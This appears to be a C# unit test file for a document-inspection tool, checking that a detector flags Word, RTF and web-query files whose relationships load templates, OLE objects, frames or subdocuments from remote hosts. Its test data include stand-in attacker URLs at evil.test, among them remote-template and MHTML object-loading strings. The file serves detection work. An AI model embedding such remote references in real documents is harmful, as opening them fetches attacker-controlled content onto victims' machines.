using Sekisho.Inspection.Detection.Carriers;
using Sekisho.SampleMaker;

namespace Sekisho.Inspection.Tests.Detection.Carriers;

public class RemoteContentTests
{
    private const string Type = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

    [Theory]
    [InlineData("attachedTemplate", "https://evil.test/a.dotm", "DOCUMENT_REMOTE_TEMPLATE")]
    [InlineData("attachedTemplate", @"file:///\\server\share\a.dotm", "DOCUMENT_SHARED_TEMPLATE")]
    [InlineData("oleObject", "mhtml:https://evil.test/x.html!x-usc:https://evil.test/x.html", "DOCUMENT_REMOTE_OBJECT")]
    [InlineData("frame", "http://evil.test/f.htm", "DOCUMENT_REMOTE_OBJECT")]
    [InlineData("subDocument", "http://evil.test/f.docx", "DOCUMENT_REMOTE_OBJECT")]
    [InlineData("externalLinkPath", "https://other.test/b.xlsx", "DOCUMENT_EXTERNAL_LINK")]
    public void RemoteRelationship_IsFoundWithItsAddress(string type, string target, string code)
    {
        var package = CarrierWriter.WordPackage($"<Relationship Id=\"r1\" Type=\"{Type}{type}\" Target=\"{target}\" TargetMode=\"External\"/>", "");

        var finding = Assert.Single(Letters.Ask(new RemoteContent(), "a.docx", package));
        Assert.Equal((code, target), (finding.Kind.Code, finding.Evidence));
    }

    [Theory]
    [InlineData("attachedTemplate", @"file:///C:\Users\alice\Templates\Normal.dotm")]
    [InlineData("hyperlink", "https://hospital.test/")]
    public void LocalTemplateOrLink_IsNot(string type, string target) =>
        Assert.Empty(Letters.Codes(new RemoteContent(), "a.docx", CarrierWriter.WordPackage($"<Relationship Id=\"r1\" Type=\"{Type}{type}\" Target=\"{target}\" TargetMode=\"External\"/>", "")));

    [Fact]
    public void RtfTemplate_IsFound() =>
        Assert.Equal(["DOCUMENT_REMOTE_TEMPLATE"], Letters.Codes(new RemoteContent(), "a.doc", @"{\rtf1{\*\template http://evil.test/a.dotm}x}"u8.ToArray()));

    [Fact]
    public void WebQuery_IsFound() => Assert.Equal("https://evil.test/q", Assert.Single(Letters.Ask(new RemoteContent(), "a.txt", "WEB\r\n1\r\nhttps://evil.test/q\r\n"u8.ToArray())).Evidence);
}
